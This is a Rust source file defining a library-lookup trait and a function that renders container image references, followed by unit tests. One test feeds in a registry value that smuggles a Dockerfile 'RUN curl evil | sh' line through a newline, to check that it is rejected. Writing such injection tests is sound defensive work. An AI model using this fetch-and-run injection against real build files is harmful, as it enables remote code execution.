//! The lookup contract consumed by the realizer and emitter.

use std::sync::Arc;

use quokka_common::error::LibraryError;

use crate::definition::ResolvedDefinition;
use crate::reference::SymbolicReference;

/// Resolves symbolic references to concrete definitions.
///
/// Implementations must be safe to call from several builds at once; any
/// caching they do is internal and invisible to callers. Lookups never
/// retry inside the pipeline, so a backend that wants retries or timeouts
/// implements them here and reports exhaustion as [`LibraryError::Unavailable`].
pub trait LibraryClient: Send + Sync {
    /// Binds `reference` to a concrete definition.
    ///
    /// # Errors
    ///
    /// Returns a [`LibraryError`] when the name is unknown, no version
    /// satisfies the constraint, or the backend is unavailable.
    fn resolve(&self, reference: &SymbolicReference) -> Result<ResolvedDefinition, LibraryError>;

    /// Returns the fully-qualified identifier to print for `definition`.
    ///
    /// The default form is `[registry/]name:version@digest`, where the
    /// registry comes from the `registry` metadata key and is omitted when
    /// the name already starts with it.
    ///
    /// # Errors
    ///
    /// Returns `LibraryError::Malformed` if the name or version cannot be
    /// printed as an image reference.
    fn canonical_reference(&self, definition: &ResolvedDefinition) -> Result<String, LibraryError> {
        canonical_form(definition)
    }
}

/// The default canonical rendering shared by the bundled backends.
///
/// # Errors
///
/// Returns `LibraryError::Malformed` for an empty or whitespace-bearing
/// name, version or registry.
pub fn canonical_form(definition: &ResolvedDefinition) -> Result<String, LibraryError> {
    let malformed = |message: &str| LibraryError::Malformed {
        name: definition.name.clone(),
        message: message.to_string(),
    };
    if definition.name.is_empty() || definition.name.chars().any(char::is_whitespace) {
        return Err(malformed("name cannot be printed as an image reference"));
    }
    if definition.version.is_empty() || definition.version.chars().any(char::is_whitespace) {
        return Err(malformed("version cannot be printed as an image tag"));
    }

    let mut out = String::new();
    if let Some(registry) = definition.registry() {
        if registry.is_empty() || registry.chars().any(char::is_whitespace) {
            return Err(malformed("registry cannot be printed as an image reference"));
        }
        let already_qualified = definition
            .name
            .strip_prefix(registry)
            .is_some_and(|rest| rest.starts_with('/'));
        if !already_qualified {
            out.push_str(registry.trim_end_matches('/'));
            out.push('/');
        }
    }
    out.push_str(&definition.name);
    out.push(':');
    out.push_str(&definition.version);
    out.push('@');
    out.push_str(&definition.digest.to_string());
    Ok(out)
}

impl<T: LibraryClient + ?Sized> LibraryClient for Arc<T> {
    fn resolve(&self, reference: &SymbolicReference) -> Result<ResolvedDefinition, LibraryError> {
        (**self).resolve(reference)
    }

    fn canonical_reference(&self, definition: &ResolvedDefinition) -> Result<String, LibraryError> {
        (**self).canonical_reference(definition)
    }
}

impl<T: LibraryClient + ?Sized> LibraryClient for Box<T> {
    fn resolve(&self, reference: &SymbolicReference) -> Result<ResolvedDefinition, LibraryError> {
        (**self).resolve(reference)
    }

    fn canonical_reference(&self, definition: &ResolvedDefinition) -> Result<String, LibraryError> {
        (**self).canonical_reference(definition)
    }
}

#[cfg(test)]
mod tests {
    use quokka_common::types::Digest;

    use super::*;

    fn alpine() -> ResolvedDefinition {
        ResolvedDefinition::new("alpine", "3.19", Digest::parse("sha256:abc").unwrap())
    }

    #[test]
    fn canonical_form_plain() {
        assert_eq!(canonical_form(&alpine()).unwrap(), "alpine:3.19@sha256:abc");
    }

    #[test]
    fn canonical_form_prefixes_registry() {
        let def = alpine().with_metadata("registry", "mirror.local:5000/");
        assert_eq!(
            canonical_form(&def).unwrap(),
            "mirror.local:5000/alpine:3.19@sha256:abc"
        );
    }

    #[test]
    fn canonical_form_does_not_double_prefix() {
        let mut def = alpine().with_metadata("registry", "ghcr.io");
        def.name = "ghcr.io/org/alpine".into();
        assert_eq!(
            canonical_form(&def).unwrap(),
            "ghcr.io/org/alpine:3.19@sha256:abc"
        );
    }

    #[test]
    fn canonical_form_rejects_unprintable_version() {
        let mut def = alpine();
        def.version = "3 19".into();
        assert!(matches!(
            canonical_form(&def),
            Err(LibraryError::Malformed { .. })
        ));
    }

    #[test]
    fn canonical_form_rejects_multiline_registry() {
        let def = alpine().with_metadata("registry", "evil.io/x\nRUN curl evil | sh\n#");
        assert!(matches!(
            canonical_form(&def),
            Err(LibraryError::Malformed { .. })
        ));
        let def = alpine().with_metadata("registry", "");
        assert!(canonical_form(&def).is_err());
    }
}
